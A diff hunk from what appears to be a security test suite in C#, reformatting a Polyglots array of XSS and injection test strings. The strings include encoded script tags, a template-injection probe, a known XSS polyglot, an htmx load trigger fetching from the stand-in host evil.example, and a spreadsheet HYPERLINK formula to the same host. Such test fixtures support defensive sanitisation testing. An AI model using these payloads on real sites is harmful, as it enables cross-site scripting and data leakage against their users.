@@ -31,8 +31,10 @@ internal static class Polyglots
         "#{7*7}<%= 7*7 %>{7*7}", "&lt;script&gt;window.__p41=1&lt;/script&gt;", "&#60;img src=x onerror=window.__p41=1&#62;",
         "%3Cscript%3Ewindow.__p41=1%3C/script%3E", "\\u003cscript\\u003ewindow.__p41=1\\u003c/script\\u003e",
         "+ADw-script+AD4-window.__p41=1+ADw-/script+AD4-", "<scr<script>ipt>window.__p41=1</scr</script>ipt>",
-        "<div hx-get=//evil.example hx-trigger=load>x</div>", "<div hx-on::load=\"window.__p41=1\" data-hx-on:htmx:load=\"window.__p41=1\">x</div>",
-        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__p41=1 )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__p41=1//>",
+        "<div hx-get=//evil.example hx-trigger=load>x</div>",
+        "<div hx-on::load=\"window.__p41=1\" data-hx-on:htmx:load=\"window.__p41=1\">x</div>",
+        "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__p41=1 )//" +
+            "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=window.__p41=1//>",
         "=HYPERLINK(\"//evil.example\",\"x\")",
     ];
 
